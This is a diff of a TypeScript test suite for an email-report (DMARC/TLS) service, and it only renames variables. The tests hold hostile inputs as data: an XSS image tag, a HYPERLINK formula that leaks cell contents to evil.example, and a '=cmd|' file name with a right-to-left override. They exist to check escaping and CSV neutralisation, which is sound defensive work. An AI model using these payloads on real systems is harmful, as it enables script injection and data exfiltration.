@@ -90,13 +90,13 @@ function sample(changes: SampleReport = {}): SampleReport {
   return { id: `report-${Math.random()}`, begin, end: begin + DAY - 1, ...changes };
 }
 
-function send(to: string, raw: Buffer) {
+function send(recipient: string, raw: Buffer) {
   const transport = nodemailer.createTransport({ host: '127.0.0.1', port: port.port });
-  return transport.sendMail({ envelope: { from: '', to }, raw });
+  return transport.sendMail({ envelope: { from: '', to: recipient }, raw });
 }
 
-async function receive(raw: Buffer, to = domain.address) {
-  await send(to, raw);
+async function receive(raw: Buffer, recipient = domain.address) {
+  await send(recipient, raw);
   await server.runJobs();
 }
 
@@ -159,10 +159,10 @@ describe('reports by email', () => {
 
   test('reach their domain if its address is in lower case or has the shared host', async () => {
     const domainOwner = await newDomainOwner('cake.example');
-    const to = domainOwner.domain.address.toLowerCase();
-    await receive(await signedReport(sample({ domain: 'cake.example' })), to);
-    const shared = `${to.slice(0, to.indexOf('@'))}@${BOUNCES}`;
-    await receive(await signedReport(sample({ domain: 'news.cake.example' })), shared);
+    const recipient = domainOwner.domain.address.toLowerCase();
+    await receive(await signedReport(sample({ domain: 'cake.example' })), recipient);
+    const sharedAddress = `${recipient.slice(0, recipient.indexOf('@'))}@${BOUNCES}`;
+    await receive(await signedReport(sample({ domain: 'news.cake.example' })), sharedAddress);
     expect((await reportsOf(domainOwner.domain.id, domainOwner)).reporters[0]?.reports).toBe(2);
   });
 
@@ -189,8 +189,8 @@ describe('reports by email', () => {
 
   test('remain signed when they are forwarded as an attachment', async () => {
     const domainOwner = await newDomainOwner('pie.example');
-    const forwarded = forwardedEmail(await signedReport(sample({ domain: 'pie.example' })));
-    await receive(forwarded, domainOwner.domain.address);
+    const forwardedMessage = forwardedEmail(await signedReport(sample({ domain: 'pie.example' })));
+    await receive(forwardedMessage, domainOwner.domain.address);
     expect((await reportsOf(domainOwner.domain.id, domainOwner)).reporters).toMatchObject([
       { name: 'receiver.example', signed: true },
     ]);
@@ -227,9 +227,12 @@ describe('reports by email', () => {
 
   test('are refused at forged addresses and for removed domains', async () => {
     const [local = '', host = ''] = domain.address.split('@');
-    const last = local.endsWith('0') ? '1' : '0';
-    for (const forged of [`${local.slice(0, -1)}${last}@${host}`, `r+${'0'.repeat(40)}@${host}`]) {
-      expect(acceptsReportFor(forged)).toBe(false);
+    const lastCharacter = local.endsWith('0') ? '1' : '0';
+    for (const forgedAddress of [
+      `${local.slice(0, -1)}${lastCharacter}@${host}`,
+      `r+${'0'.repeat(40)}@${host}`,
+    ]) {
+      expect(acceptsReportFor(forgedAddress)).toBe(false);
     }
     const domainOwner = await newDomainOwner('gone.example');
     await domainOwner.delete(`/client-api/api/domains/${domainOwner.domain.id}`);
@@ -240,8 +243,8 @@ describe('reports by email', () => {
   });
 
   test('are refused if they are larger than 10 MB, or after 2,000 reports on one day', async () => {
-    const large = Buffer.concat([reportEmail('x'), Buffer.alloc(MAX_REPORT_BYTES, '\r\n')]);
-    await expect(send(domain.address, large)).rejects.toMatchObject({ responseCode: 552 });
+    const oversizedFile = Buffer.concat([reportEmail('x'), Buffer.alloc(MAX_REPORT_BYTES, '\r\n')]);
+    await expect(send(domain.address, oversizedFile)).rejects.toMatchObject({ responseCode: 552 });
     const domainOwner = await newDomainOwner('busy.example');
     const row = {
       account_id: domainOwner.accountId,
@@ -275,11 +278,11 @@ describe('reports by email', () => {
 
   test('are shown and exported as text if their names contain markup or formulas', async () => {
     const domainOwner = await newDomainOwner('mint.example');
-    const escaped = (text: string) =>
+    const escapeHtml = (text: string) =>
       text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
     const image = '<img src=x onerror="alert(1)">';
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"Report")';
-    for (const name of [image, formula].map(escaped)) {
+    for (const name of [image, formula].map(escapeHtml)) {
       const dkim = [{ domain: 'mint.example', selector: name }];
       const rows = [{ dkim, headerFrom: 'mint.example' }];
       const xml = dmarcXml(sample({ organization: name, domain: 'mint.example', rows }));
@@ -288,22 +291,22 @@ describe('reports by email', () => {
     const { begin, end } = sample() as { begin: number; end: number };
     const tls = { organization: `\r\n${formula}`, domain: 'mint.example', begin, end };
     await receive(reportEmail(tlsJson(tls)), domainOwner.domain.address);
-    const answer = await domainOwner.get(`${API}/domains/${domainOwner.domain.id}`);
-    expect(answer.headers['content-type']).toMatch(/^application\/json/);
-    const { reporters, sources } = answer.body.data as DomainReports;
+    const response = await domainOwner.get(`${API}/domains/${domainOwner.domain.id}`);
+    expect(response.headers['content-type']).toMatch(/^application\/json/);
+    const { reporters, sources } = response.body.data as DomainReports;
     const names = reporters.map(({ name }) => name);
     expect(names.toSorted()).toEqual([image, formula].toSorted());
     expect(sources.map(({ name }) => name).toSorted()).toEqual(
       [image, formula].map((name) => `mint.example/${name.toLowerCase()}`).toSorted(),
     );
-    const stored = await server.db
+    const storedReport = await server.db
       .selectFrom('domain_reports')
       .select('organization')
       .where('account_id', '=', domainOwner.accountId)
       .execute();
-    expect(stored).toHaveLength(3);
+    expect(storedReport).toHaveLength(3);
     // Each name is on one line, and a spreadsheet evaluates none of them.
-    for (const { organization } of stored) {
+    for (const { organization } of storedReport) {
       expect(organization).not.toMatch(/[\r\n\t]/);
       expect(csvLine([organization])).toMatch(/^("?'=|"<img )/);
     }
@@ -333,8 +336,8 @@ describe('reports by email', () => {
   test('about TLS are summed with their failures', async () => {
     const domainOwner = await newDomainOwner('fig.example');
     const { begin, end } = sample() as { begin: number; end: number };
-    const packed = gzipSync(tlsJson({ domain: 'fig.example', begin, end }));
-    const email = reportEmail(packed, { type: 'application/tlsrpt+gzip', name: 'r.json.gz' });
+    const compressed = gzipSync(tlsJson({ domain: 'fig.example', begin, end }));
+    const email = reportEmail(compressed, { type: 'application/tlsrpt+gzip', name: 'r.json.gz' });
     await receive(await signEmail(email), domainOwner.domain.address);
     expect((await reportsOf(domainOwner.domain.id, domainOwner)).tls).toEqual({
       sessions: 12,
@@ -348,20 +351,24 @@ describe('the proposed DMARC record', () => {
   test('adds the address to the current record until the address is published', async () => {
     const domainOwner = await newDomainOwner('rye.example');
     const url = `/client-api/api/domains/${domainOwner.domain.id}`;
-    const dmarcOf = async (texts: string[]) => {
-      dns.zone.set('_dmarc.rye.example', { TXT: texts });
+    const dmarcOf = async (records: string[]) => {
+      dns.zone.set('_dmarc.rye.example', { TXT: records });
       const { data } = (await domainOwner.post(`${url}/check`)).body;
       const record = data.records.find(({ purpose }: { purpose: string }) => purpose === 'dmarc');
-      const requested = data.reports.requested as boolean;
-      return { value: record.value as string, state: record.state as string, requested };
+      const isRequested = data.reports.requested as boolean;
+      return {
+        value: record.value as string,
+        state: record.state as string,
+        requested: isRequested,
+      };
     };
     const rua = `mailto:${domainOwner.domain.address}`;
     expect((await dmarcOf([])).value).toBe(`v=DMARC1; p=none; rua=${rua}`);
-    const long = `v=DMARC1; p=reject; rua=mailto:${'d'.repeat(60)}@x.example; ruf=mailto:${'e'.repeat(300)}@x.example`;
-    const added = await dmarcOf([long]);
-    expect(added).toMatchObject({ state: 'ok', requested: false });
-    expect(added.value).toBe(long.replace('x.example;', `x.example,${rua};`));
-    expect(await dmarcOf([added.value])).toEqual({ ...added, requested: true });
+    const longRecord = `v=DMARC1; p=reject; rua=mailto:${'d'.repeat(60)}@x.example; ruf=mailto:${'e'.repeat(300)}@x.example`;
+    const addedRecord = await dmarcOf([longRecord]);
+    expect(addedRecord).toMatchObject({ state: 'ok', requested: false });
+    expect(addedRecord.value).toBe(longRecord.replace('x.example;', `x.example,${rua};`));
+    expect(await dmarcOf([addedRecord.value])).toEqual({ ...addedRecord, requested: true });
     // Receivers ignore both records, so only the first one should remain.
     const double = await dmarcOf(['v=DMARC1; p=quarantine', 'v=DMARC1; p=none']);
     expect(double).toMatchObject({ state: 'different', requested: false });
@@ -386,18 +393,22 @@ describe('the proposed DMARC record', () => {
 });
 
 describe('uploaded reports', () => {
-  const put = (client: TestClient, bytes: Buffer, name = 'r.xml') =>
+  const uploadFile = (client: TestClient, bytes: Buffer, name = 'r.xml') =>
     upload(client, bytes, name, `${API}/files`);
 
   test('are stored for the domain that they are about, and an original email proves its reporter', async () => {
     const domainOwner = await newDomainOwner('nut.example');
     await addDomain(domainOwner, 'shop.nut.example');
     const bytes = Buffer.from(dmarcXml(sample({ domain: 'shop.nut.example' })));
-    const answer = await put(domainOwner, bytes, '=cmd|x\u202e.xml');
-    expect(answer).toMatchObject({ status: 200, body: { data: { state: 'waiting' } } });
-    await put(domainOwner, await signedReport(sample({ domain: 'nut.example' })), 'original.eml');
-    await put(domainOwner, bytes);
-    await put(domainOwner, Buffer.from(dmarcXml(sample({ domain: 'stranger.example' }))));
+    const response = await uploadFile(domainOwner, bytes, '=cmd|x\u202e.xml');
+    expect(response).toMatchObject({ status: 200, body: { data: { state: 'waiting' } } });
+    await uploadFile(
+      domainOwner,
+      await signedReport(sample({ domain: 'nut.example' })),
+      'original.eml',
+    );
+    await uploadFile(domainOwner, bytes);
+    await uploadFile(domainOwner, Buffer.from(dmarcXml(sample({ domain: 'stranger.example' }))));
     await server.runJobs();
     const list = (await domainOwner.get(`${API}/files`)).body.data;
     expect(list.map((file: { state: string }) => file.state).toSorted()).toEqual([
@@ -414,9 +425,11 @@ describe('uploaded reports', () => {
   });
 
   test('are refused when empty, missing or too large', async () => {
-    expect((await put(owner, Buffer.alloc(0))).body.code).toBe('file_empty');
+    expect((await uploadFile(owner, Buffer.alloc(0))).body.code).toBe('file_empty');
     expect((await owner.post(`${API}/files`, {})).body.code).toBe('file_missing');
-    expect((await put(owner, Buffer.alloc(MAX_REPORT_BYTES + 1))).body.code).toBe('file_too_large');
+    expect((await uploadFile(owner, Buffer.alloc(MAX_REPORT_BYTES + 1))).body.code).toBe(
+      'file_too_large',
+    );
   });
 });
 
@@ -445,11 +458,11 @@ describe('the verdict about a source', () => {
     expect((await verdict())[0]).toBe('abuse');
     await domainOwner.put(url, { source, verdict: 'unknown' });
     expect(await verdict()).toEqual(['unknown', '', 'name_source']);
-    const unnamed = await domainOwner.put(url, {
+    const rejection = await domainOwner.put(url, {
       source: 'network:192.0.2.0/24',
       verdict: 'known',
     });
-    expect(unnamed.body.errors).toHaveProperty('title');
+    expect(rejection.body.errors).toHaveProperty('title');
     expect((await domainOwner.put(url, { source: 'ours', verdict: 'abuse' })).status).toBe(422);
     const otherOwner = await server.owner();
     expect((await otherOwner.put(url, { source, verdict: 'abuse' })).status).toBe(404);
